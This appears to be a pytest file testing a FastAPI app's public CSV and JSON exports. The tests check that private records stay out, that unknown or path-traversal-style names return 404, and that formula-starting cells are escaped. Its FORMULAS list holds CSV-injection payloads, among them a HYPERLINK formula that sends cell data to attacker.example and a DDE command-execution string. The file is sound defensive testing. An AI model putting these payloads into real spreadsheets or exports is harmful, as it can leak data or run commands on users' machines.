"""Public CSV/JSON exports over HTTP (/exports/<name>.<format>): only what the public may see."""

from __future__ import annotations

import csv
import io

import pytest
from fastapi.testclient import TestClient

from facility.ids import encode_id
from facility.timeutil import utcnow
from governance.criteria import in_force
from governance.models import CriteriaSet, CriteriaStatus, Motion, MotionKind, MotionStatus
from tests.exports.world import SECRET_TEXTS, build_world


@pytest.fixture
def world(db_session):
    world = build_world(db_session)
    decided = Motion(kind=MotionKind.SCREENING, subject_id=world.requests["gha_nhri"].id,
                     status=MotionStatus.PASSED, criteria_version=1, decided_at=utcnow())
    still_open = Motion(kind=MotionKind.SCREENING, subject_id=world.requests["arg_health"].id,
                        criteria_version=1)
    draft = CriteriaSet(version=99, title="SECRET criteria draft", status=CriteriaStatus.DRAFT,
                        body={"voting": {"quorum": 5}})
    db_session.add_all([decided, still_open, draft])
    db_session.flush()
    return world


@pytest.fixture
def http(app):
    with TestClient(app) as client:
        yield client


def _csv(response) -> list[dict]:
    return list(csv.DictReader(io.StringIO(response.text, newline="")))


def test_offers_csv_and_json_hold_the_published_offers(world, http):
    response = http.get("/exports/offers.csv")
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    assert response.headers["content-disposition"] == 'attachment; filename="offers.csv"'
    rows = {r["id"]: r for r in _csv(response)}
    public = [o for o in world.offers.values() if o.status != "DRAFT"]
    assert set(rows) == {encode_id("Offer", o.id) for o in public}
    norad = rows[encode_id("Offer", world.offers["norad_pub"].id)]
    assert norad["budget"] == "500000" and norad["partner"] == "Norad"
    assert norad["themes"] == "Justice; Women's rights" and norad["window_start"] == "2027-01-01"
    body = http.get("/exports/offers.json").json()
    assert body["dataset"] == "offers" and len(body["rows"]) == len(public)
    first = next(r for r in body["rows"] if r["title"] == "Justice sector support")
    assert first["themes"] == ["Justice", "Women's rights"] and first["budget"] == 500000


def test_decisions_are_the_decided_ones_and_never_the_votes(world, http):
    rows = _csv(http.get("/exports/decisions.csv"))
    assert [(r["request_title"], r["decision"], r["state_code"]) for r in rows] == [
        ("NHRI accreditation support", "ELIGIBLE", "GHA")]
    assert set(rows[0]) == {"decided_at", "kind", "decision", "state_code", "state",
                            "request_title", "partner"}


def test_criteria_are_those_in_force_one_rule_a_row(world, http, db_session):
    body = http.get("/exports/criteria.json").json()
    current = in_force(db_session)
    assert {r["version"] for r in body["rows"]} == {current.version}
    quorum = next(r for r in body["rows"] if r["part"] == "voting" and r["rule"] == "quorum")
    assert quorum["value"] == 3
    assert {r["part"] for r in body["rows"]} == {"eligibility", "matching", "voting", "procedure"}
    documents = next(r for r in body["rows"] if r["rule"] == "required_documents")
    assert (documents["part"], documents["value"]) == ("procedure", [])  # the defaults ask none
    rows = _csv(http.get("/exports/criteria.csv"))
    assert next(r for r in rows if r["rule"] == "require_supported")["value"] == "true"


@pytest.mark.parametrize("name", ["offers.csv", "offers.json", "decisions.csv", "decisions.json",
                                  "criteria.csv", "criteria.json"])
def test_no_export_holds_anything_private(world, http, name):
    text = http.get(f"/exports/{name}").text
    for secret in (*SECRET_TEXTS, "SECRET criteria draft", "Judicial training",
                   "Health care in prisons"):
        assert secret not in text, secret


@pytest.mark.parametrize("name", ["offers.xml", "requests.csv", "experts.json", "offers", "..%2Fx.csv"])
def test_anything_else_is_not_found(world, http, name):
    response = http.get(f"/exports/{name}")
    assert response.status_code == 404


FORMULAS = ['=HYPERLINK("http://attacker.example/?leak="&A2,"Click")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(A1:A9)", "\tTabbed =1+1", "\rReturned"]


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_cell_that_would_start_a_formula_is_written_as_text_in_csv_and_unchanged_in_json(
        world, http, db_session, formula):
    """OWASP's rule against CSV injection: a quote before the cell, so a spreadsheet shows it."""
    offer = world.offers["norad_pub"]
    offer.title, offer.description = formula, formula
    request = world.requests["gha_nhri"]
    request.title = formula
    db_session.add_all([offer, request])
    db_session.flush()
    rows = {r["id"]: r for r in _csv(http.get("/exports/offers.csv"))}
    row = rows[encode_id("Offer", offer.id)]
    assert row["title"] == row["description"] == "'" + formula
    assert row["budget"] == "500000"  # numbers stay numbers
    [decision] = _csv(http.get("/exports/decisions.csv"))
    assert decision["request_title"] == "'" + formula
    titles = {r["title"] for r in http.get("/exports/offers.json").json()["rows"]}
    assert formula in titles
    assert http.get("/exports/decisions.json").json()["rows"][0]["request_title"] == formula
